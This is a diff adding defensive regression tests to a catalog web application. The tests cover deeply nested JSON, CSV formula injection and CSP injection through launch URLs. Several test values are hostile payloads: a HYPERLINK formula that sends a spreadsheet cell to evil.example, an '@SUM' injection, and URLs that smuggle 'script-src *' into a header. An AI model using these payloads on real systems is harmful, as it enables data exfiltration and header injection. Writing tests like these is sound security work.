@@ -88,3 +88,60 @@ def test_open_data_lists_referenced_solutions_only(app, client):
     rows = list(csv.DictReader(io.StringIO(table.text.lstrip("\ufeff")), delimiter=";"))
     assert {row["nom"] for row in rows} == names
     assert "Référencement Ségur du numérique (Vague 2)" in next(r for r in rows if r["nom"] == "Médicab Cabinet")["conformites_verifiees"]
+
+
+def _api_headers(app, clients, vendor):
+    shown = clients(vendor).submit("/p/catalog/vendor/api-clients")
+    client_id = re.search(r'data-testid="client-id">([^<]+)<', shown.text).group(1)
+    secret = re.search(r'data-testid="client-secret">([^<]+)<', shown.text).group(1)
+    return {"Authorization": f"Bearer {_token(app, client_id, secret)}", "Content-Type": "application/json"}
+
+
+def test_deeply_nested_json_is_refused_with_400(app, client, clients, vendor, h):
+    # Issue 13, item 4: deep nesting gave a 500 (RecursionError).
+    api = _api_headers(app, clients, vendor)
+    deep = client.post("/p/catalog/api/solutions", content=b"[" * 100_000 + b"]" * 100_000, headers=api)
+    assert deep.status_code == 400
+    assert "trop imbriqué" in deep.json()["errors"]["body"]
+    assert client.get("/p/catalog/api/solutions", headers=api).json()["solutions"] == []
+    created = client.post("/p/catalog/api/solutions", json=_body(h), headers=api)
+    assert created.status_code == 201, created.text
+
+
+def test_open_data_csv_never_hands_a_spreadsheet_a_formula(app, client):
+    # Issue 13, item 7: `=HYPERLINK(...)` as a solution's name ran in the reader's spreadsheet.
+    from bouquet_catalog.demo import load
+    from bouquet_catalog.models import Revision, Solution
+    from sqlmodel import select
+
+    load(app.state.db)
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")'
+    with app.state.db.write() as session:
+        solution = session.exec(select(Solution).where(Solution.status == "referenced")).first()
+        revision = session.get(Revision, solution.published_revision_id)
+        revision.content = {**revision.content, "name": formula, "website": "@SUM(1+1)"}
+        session.add(revision)
+    table = client.get("/p/catalog/opendata/solutions.csv")
+    rows = list(csv.reader(io.StringIO(table.text.lstrip("\ufeff")), delimiter=";"))
+    hostile = next(row for row in rows if formula in "".join(row))
+    assert "'" + formula in hostile and "'@SUM(1+1)" in hostile
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    # The JSON keeps the name as the vendor wrote it: only a spreadsheet needs the quote.
+    assert formula in {s["nom"] for s in client.get("/p/catalog/opendata/solutions.json").json()["solutions"]}
+
+
+def test_launch_and_redirect_urls_are_strict_web_addresses(app, client, clients, vendor, h):
+    # Issue 13, item 6: a launch URL with spaces, quotes or `;` in its host ended up as CSP directives.
+    api = _api_headers(app, clients, vendor)
+    for bad in ("https://evil.example;script-src *", "https://evil example", "https://user:pw@app.example/l",
+                'https://app.example"/l'):
+        refused = client.post("/p/catalog/api/solutions", json=_body(
+            h, launch_url=bad, redirect_uris=["https://app.example/cb"]), headers=api)
+        assert refused.status_code == 400 and "launch_url" in refused.json()["errors"], bad
+        refused = client.post("/p/catalog/api/solutions", json=_body(
+            h, launch_url="https://app.example/l", redirect_uris=[bad]), headers=api)
+        assert refused.status_code == 400 and "redirect_uris" in refused.json()["errors"], bad
+    assert client.get("/p/catalog/api/solutions", headers=api).json()["solutions"] == []
+    created = client.post("/p/catalog/api/solutions", json=_body(
+        h, launch_url="https://app.example/l", redirect_uris=["https://app.example/cb"]), headers=api)
+    assert created.status_code == 201, created.text
